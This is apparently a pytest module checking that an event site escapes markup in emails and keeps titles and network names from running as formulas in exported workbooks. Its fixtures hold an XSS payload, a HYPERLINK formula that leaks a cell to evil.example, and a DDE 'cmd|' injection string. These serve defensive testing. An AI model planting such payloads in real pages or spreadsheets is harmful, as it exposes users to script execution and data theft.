"""What people type reaches emails and spreadsheets as text, never as markup or a formula.

- Emails: the HTML part of every participant's email is autoescaped (a title holding markup
  shows as that markup), the plain-text part and the subject carry the text as typed (no
  ``&lt;`` for a reader of plain text).
- Spreadsheets: every workbook the site writes goes through ``network.spreadsheets.cell``;
  the directory's exports and the attendee lists are tested in their own modules, and here the
  event report's workbook, whose sheets are named and filled from session titles and network
  names.
"""

import datetime as dt
import io

import openpyxl
import pytest
from django.utils import timezone
from django.utils.html import escape

from events.attendance.models import Method, SlotUnit
from events.attendance.services import certificates, check_in
from events.attendance.slots import slots_for
from events.registrations.services import emails
from tests.factories.attendance import plan
from tests.factories.events import event_page, translate
from tests.factories.network import NetworkFactory
from tests.factories.registrations import RegistrationFactory, SettingsFactory, organiser
from tests.network.test_spreadsheets import runs_as_formula

pytestmark = pytest.mark.django_db

MARKUP = '<img src=x onerror="alert(1)"> & <a href="https://evil.example">'
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'


@pytest.fixture
def programme(demo_site):
    """A past programme of two sessions, attendance per session and one session enough for a
    certificate; its Arabic title holds markup, its English title and first session a formula,
    its network's name another."""
    first = (timezone.now() - dt.timedelta(weeks=2)).replace(hour=10, minute=0, second=0, microsecond=0)
    second = first + dt.timedelta(days=1)
    sessions = [
        {"title": FORMULA, "kind": "talk", "start": first, "end": first + dt.timedelta(hours=1)},
        {"title": "@SUM(1+1)", "kind": "talk", "start": second, "end": second + dt.timedelta(hours=1)},
    ]
    page = event_page(
        title=MARKUP, slug="escaped", event_format="online", start=first, end=sessions[-1]["end"], sessions=sessions
    )
    translate(page, title=FORMULA)
    rules = plan(page, unit=SlotUnit.SESSION, completion_rule="slots", completion_value=1)
    rules.networks.add(NetworkFactory(name="-2+3+cmd|' /C calc'!A0", name_ar="+cmd|' /C calc'!A0"))
    SettingsFactory(event=page, capacity=None)
    return page


@pytest.mark.parametrize("language", ["ar", "en"])
def test_registration_emails_escape_markup_in_html_only(programme, mailoutbox, language):
    registration = RegistrationFactory(event=programme, language=language)
    assert emails.send_email(registration.pk, "confirmed")
    message = mailoutbox[-1]
    title = programme.localized_for(language).title
    html = message.alternatives[0][0]
    assert title in message.subject and title in message.body  # plain text, as typed
    assert escape(title) in html
    assert "<img src=x" not in html and 'href="https://evil.example"' not in html


def test_the_certificate_email_escapes_markup(programme, mailoutbox):
    registration = RegistrationFactory(event=programme, language="ar")
    check_in(registration, slots_for(programme)[0].key, method=Method.ONLINE, minutes=60)
    certificate, _created = certificates.issue(registration)
    mailoutbox.clear()
    assert certificates.send_email(certificate.pk)
    message = mailoutbox[-1]
    html = message.alternatives[0][0]
    assert MARKUP in message.subject and MARKUP in message.body
    assert "&lt;img src=x" in html and "<img src=x" not in html and 'href="https://evil.example"' not in html


@pytest.mark.parametrize("language", ["ar", "en"])
def test_the_event_reports_workbook_runs_no_formula(client, programme, language):
    for slot in slots_for(programme):
        check_in(RegistrationFactory(event=programme), slot.key, method=Method.ONLINE, minutes=60)
    client.force_login(organiser(edit_pages_under=programme.get_parent()))
    response = client.get(f"/admin/reports/{programme.pk}/xlsx/", HTTP_ACCEPT_LANGUAGE=language)
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    texts = [
        cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)
    ]
    assert texts and all(cell.data_type == "s" and not runs_as_formula(cell.value) for cell in texts)
    written = " ".join(cell.value for cell in texts)
    assert "HYPERLINK" in written and "@SUM(1+1)" in written and "cmd|" in written  # there, as text
